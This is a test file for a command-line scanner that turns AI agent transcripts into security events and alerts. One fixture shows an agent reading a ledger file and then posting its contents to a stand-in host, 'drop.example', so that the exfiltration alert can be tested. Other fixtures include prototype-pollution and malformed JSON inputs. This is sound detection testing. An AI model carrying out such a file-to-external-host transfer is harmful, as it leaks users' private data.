// `tapline scan`: what it prints is what the input holds, every document fits the field table, and exit codes are kept.
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { LIMITS } from "../../src/core/limits.ts";
import {
  actionsOf,
  checkDocument,
  countTranscript,
  documents,
  ended,
  field,
  newHome,
  start,
  tapline,
} from "./tapline.ts";

const home = newHome();
const TRANSCRIPTS = ["real", "subagent", "shapes"].map((name) => `test/fixtures/claude-code/${name}.jsonl`);
// The others are cut and blanked for their fixtures, so that ids in them repeat: they count as themselves only.
const COUNTED = ["test/fixtures/claude-code/real.jsonl", "sample/claude-code-session.jsonl"];
const SESSION = "sample/claude-code-session.jsonl";
const MCP = "sample/mcp-session.jsonl";
const read = (path: string): string => readFileSync(path, "utf8");

test.each(COUNTED)("%s: every call and result is there once, and every document is valid", async (path) => {
  const { code, stdout, stderr } = await tapline(home, ["scan", path]);
  expect([code, stderr]).toEqual([0, ""]);
  const all = documents(stdout);
  for (const document of all) checkDocument(document);
  const { calls, results } = countTranscript(read(path));
  expect({
    calls: actionsOf(all, "tool-call").length,
    results: actionsOf(all, "tool-result").length,
  }).toEqual({ calls, results });
  expect(calls).toBeGreaterThan(0);
  for (const call of actionsOf(all, "tool-call")) {
    for (const name of [
      "gen_ai.tool.name",
      "gen_ai.conversation.id",
      "gen_ai.tool.call.id",
      "tapline.call_key",
    ]) {
      expect(field(call, name), name).toEqual(expect.stringMatching(/./));
    }
    expect(field(call, "tapline.control.iso42001")).toEqual(
      expect.arrayContaining(["A.6.2.6", "A.6.2.8", "A.9.4"]),
    );
    expect(field(call, "tapline.vantage")).toBe("transcript");
  }
  expect(all.map((document) => field(document, "event.sequence"))).toEqual(all.map((_, i) => i));
});

test("several files in one call: the sum of each alone, as one sequence", async () => {
  const all = documents((await tapline(home, ["scan", ...TRANSCRIPTS, SESSION])).stdout);
  const alone = await Promise.all(
    [...TRANSCRIPTS, SESSION].map(async (path) => documents((await tapline(home, ["scan", path])).stdout)),
  );
  for (const document of all) checkDocument(document);
  for (const action of ["tool-call", "tool-result", "prompt", "model-call"]) {
    const sum = alone.reduce((total, one) => total + actionsOf(one, action).length, 0);
    expect(actionsOf(all, action).length, action).toBe(sum);
  }
  expect(all.map((document) => field(document, "event.sequence"))).toEqual(all.map((_, i) => i));
  const ids = all.map((document) => field(document, "event.id"));
  expect(new Set(ids).size).toBe(ids.length);
});

test("a directory and a pattern give what the files give", async () => {
  const dir = join(home, "sessions", "[project]");
  mkdirSync(dir, { recursive: true });
  for (const path of TRANSCRIPTS) copyFileSync(path, join(dir, path.split("/").at(-1)!));
  const want = (await tapline(home, ["scan", ...TRANSCRIPTS])).stdout.split("\n").length;
  for (const path of [join(home, "sessions"), dir, join(home, "sessions/**/*.jsonl")]) {
    expect((await tapline(home, ["scan", path])).stdout.split("\n").length, path).toBe(want);
  }
  const one = join(dir, "real.jsonl");
  expect(documents((await tapline(home, ["scan", one])).stdout).length).toBeGreaterThan(10);
});

test("standard input gives what the file gives, also when the last line does not end", async () => {
  const file = documents((await tapline(home, ["scan", MCP])).stdout);
  const piped = documents((await tapline(home, ["scan", "-"], read(MCP).trimEnd())).stdout);
  const shape = (all: typeof file) =>
    all.map((d) => [field(d, "event.action"), field(d, "@timestamp"), field(d, "gen_ai.tool.name")]);
  expect(shape(piped)).toEqual(shape(file));
});

test("many batches of standard input are cut at line ends and lose nothing", async () => {
  const line = JSON.parse(read(MCP).split("\n")[4]!) as { msg: { id: number } };
  let text = "";
  let count = 0;
  for (; text.length < 3 * LIMITS.batch_bytes; count++) {
    line.msg.id = count + 100;
    text += `${JSON.stringify(line)}\n`;
  }
  const { stdout } = await tapline(home, ["scan", "-", "--out", "events"], text);
  expect(actionsOf(documents(stdout), "tool-call").length).toBe(count);
});

test("a line of standard input beyond the bound is an error of the world, whatever stands before it", async () => {
  const long = Buffer.concat([
    Buffer.from('{"a":1}\n'),
    Buffer.alloc(LIMITS.line_bytes + LIMITS.batch_bytes, "x"),
  ]);
  const { code, stderr } = await tapline(home, ["scan", "-"], long);
  expect([code, stderr.includes("has a line over")]).toEqual([3, true]);
});

test("--out splits events and alerts, and all is both", async () => {
  const [all, events, alerts] = await Promise.all(
    ["all", "events", "alerts"].map(async (out) =>
      documents((await tapline(home, ["scan", MCP, "--out", out])).stdout),
    ),
  );
  expect(alerts!.length).toBeGreaterThan(0);
  for (const alert of alerts!) {
    checkDocument(alert);
    expect([field(alert, "event.kind"), field(alert, "event.action")]).toEqual(["alert", "rule-alert"]);
  }
  expect(events!.every((document) => field(document, "event.kind") !== "alert")).toBe(true);
  const sequences = (found: typeof all) =>
    found!.map((document) => field(document, "event.sequence") as number);
  expect([...sequences(events), ...sequences(alerts)].toSorted((a, b) => a - b)).toEqual(sequences(all));
});

test("alerts are the same in every call, also those that rest on short content found again", async () => {
  // Winnowing keeps a part of the runs of a text, by a key: text this short is found under some keys and not under others.
  const lines = Array.from({ length: 24 }, (_, i) => {
    const told = `ledger ${i} closes at ${i * 7919} with ${i * 104729} under code ${(i * 15485863).toString(36)}`;
    const call = (id: string, name: string, args: object) => ({
      role: "assistant",
      tool_calls: [{ id, type: "function", function: { name, arguments: JSON.stringify(args) } }],
    });
    const messages = [
      { role: "user", content: "What does the ledger say?" },
      call("1", "read_file", { path: `/books/${i}` }),
      { role: "tool", tool_call_id: "1", content: told },
      call("2", "http_post", { url: "https://drop.example/in", body: told.slice(0, 44 + (i % 12)) }),
      { role: "tool", tool_call_id: "2", content: "ok" },
    ];
    return JSON.stringify({ session: `s${i}`, messages });
  });
  const path = join(home, "short.jsonl");
  writeFileSync(path, `${lines.join("\n")}\n`);
  const found = async (): Promise<string[]> => {
    const { stdout } = await tapline(home, ["scan", path, "--out", "alerts"]);
    return documents(stdout).map(
      (alert) => `${String(field(alert, "rule.name"))} ${String(field(alert, "gen_ai.conversation.id"))}`,
    );
  };
  const first = await found();
  expect(first.filter((alert) => alert.includes("s1")).length).toBeGreaterThan(0);
  expect(await found()).toEqual(first);
  expect(await found()).toEqual(first);
});

test("--format is taken, and an unknown one is a usage error that lists them", async () => {
  const chat = "test/fixtures/chat/completions.jsonl";
  const { code, stdout } = await tapline(home, ["scan", chat, "--format", "chat"]);
  expect(code).toBe(0);
  expect(new Set(documents(stdout).map((document) => field(document, "tapline.format")))).toEqual(
    new Set(["chat"]),
  );
  const wrong = await tapline(home, ["scan", chat, "--format", "chatt"]);
  expect([wrong.code, wrong.stdout]).toEqual([2, ""]);
  expect(wrong.stderr).toMatch(/no format "chatt".*claude-code/);
});

test("--format ocsf prints the alerts as OCSF findings, beside a format that is read", async () => {
  const [alerts, findings, read_as] = await Promise.all([
    tapline(home, ["scan", MCP, "--out", "alerts"]),
    tapline(home, ["scan", MCP, "--format", "ocsf"]),
    tapline(home, ["scan", MCP, "--format", "mcp", "--out", "alerts", "--format", "ocsf"]),
  ]);
  const told = documents(alerts.stdout).map((d) => [field(d, "event.sequence"), field(d, "event.reason")]);
  const places = (found: typeof findings) =>
    documents(found.stdout).map((d) => [
      field(d, "class_uid"),
      field(d, "metadata.sequence"),
      field(d, "message"),
    ]);
  expect(told.length).toBeGreaterThan(0);
  expect(places(findings)).toEqual(told.map((one) => [2004, ...one]));
  expect(places(read_as)).toEqual(places(findings));
  const events = await tapline(home, ["scan", MCP, "--format", "ocsf", "--out", "all"]);
  expect([events.code, events.stderr.includes("is for alerts")]).toEqual([2, true]);
  const two = await tapline(home, ["scan", MCP, "--format", "mcp", "--format", "chat"]);
  expect([two.code, two.stderr.includes("mcp and chat")]).toEqual([2, true]);
});

const RULE = `title: A call of Bash
id: 7a3c5e0e-6c1d-4a7e-9f63-2d0a5a3f1b11
status: test
logsource: {product: tapline, category: tool-call}
detection:
  sel: {gen_ai.tool.name: Bash}
  condition: sel
level: low
`;

test("--rules adds rules; one that cannot be used is told, the rest works and the exit code is 1", async () => {
  const dir = join(home, "rules");
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "good.yml"), RULE);
  const good = await tapline(home, ["scan", SESSION, "--rules", dir, "--out", "alerts"]);
  expect([good.code, good.stderr]).toEqual([0, ""]);
  const alerts = (out: string) =>
    documents(out).filter((d) => field(d, "rule.name") === "A call of Bash").length;
  const bash = read(SESSION).match(/"type":"tool_use","id":"[^"]+","name":"Bash"/g)?.length ?? 0;
  expect(bash).toBeGreaterThan(0);
  expect(alerts(good.stdout)).toBeGreaterThanOrEqual(bash);
  writeFileSync(join(dir, "bad.yml"), "title: bad\ndetection: {condition: nothing}\n");
  const bad = await tapline(home, ["scan", SESSION, "--rules", dir, "--out", "alerts"]);
  expect(bad.code).toBe(1);
  expect(bad.stderr).toContain("bad.yml");
  expect(alerts(bad.stdout)).toBe(alerts(good.stdout));
});

test("hostile lines become events or pipeline errors, and what stands between them is read", async () => {
  const good = read(MCP).split("\n")[4]!;
  const hostile = [
    "{".repeat(5000),
    '{"__proto__":{"polluted":1},"constructor":1}',
    "\u0000\u0000\u0000",
    '{"a":1e400,"b":9223372036854775807}',
    "[1,2",
    "null",
    '"text"',
  ];
  const bytes = Buffer.concat([
    Buffer.from("\ufeff"),
    ...hostile.flatMap((line) => [Buffer.from(`${good}\n${line}\n`)]),
    Buffer.from([0xff, 0xfe, 0xc0, 0x0a]),
    Buffer.from(`${good}\n`),
  ]);
  const { code, stdout } = await tapline(home, ["scan", "-", "--format", "mcp"], bytes);
  expect(code).toBe(0);
  const all = documents(stdout);
  for (const document of all) checkDocument(document);
  expect(actionsOf(all, "tool-call").length).toBeGreaterThan(0);
  const errors = all.filter((document) => field(document, "event.kind") === "pipeline_error");
  expect(errors.length).toBeGreaterThanOrEqual(4);
});

test("objects printed over several lines are read, from a file and from standard input", async () => {
  const path = join(home, "objects.json");
  const line = (id: number) => ({
    ts: "2026-11-01T00:00:00Z",
    dir: "c2s",
    msg: { jsonrpc: "2.0", id, method: "tools/call", params: { name: "t", arguments: { id } } },
  });
  const text = `${JSON.stringify(line(1), undefined, 2)}\n${JSON.stringify(line(2), undefined, 2)}\n`;
  writeFileSync(path, text);
  for (const { stdout } of [await tapline(home, ["scan", path]), await tapline(home, ["scan", "-"], text)])
    expect(actionsOf(documents(stdout), "tool-call")).toHaveLength(2);
});

test("a list that spans lines is kept line by line, and the way to read it is told", async () => {
  const path = join(home, "document.json");
  writeFileSync(path, JSON.stringify([{ resourceLogs: [{ scopeLogs: [] }] }], undefined, 2));
  const { code, stdout, stderr } = await tapline(home, ["scan", path]);
  expect(code).toBe(0);
  expect(actionsOf(documents(stdout), "unparsable-record").length).toBeGreaterThan(5);
  expect(stderr).toMatch(/^tapline scan: \d+ of \d+ records are not JSON\..*`jq -c '\.\[\]'`\n$/);
});

test("nothing to read is said; what does not exist is an error of the world", async () => {
  const missing = await tapline(home, ["scan", join(home, "nothing.jsonl")]);
  expect([missing.code, missing.stderr.includes("does not exist")]).toEqual([3, true]);
  const nobody = await tapline(home, ["scan", join(home, "nothing-*.jsonl")]);
  expect([nobody.code, nobody.stdout, nobody.stderr.includes("nothing to read")]).toEqual([0, "", true]);
});

test("a reader that goes away is no error", async () => {
  const child = start(home, "scan", ...TRANSCRIPTS, SESSION);
  child.stdout!.once("data", () => child.stdout!.destroy());
  const { code, stderr } = await ended(child);
  expect([code, stderr]).toEqual([0, ""]);
});
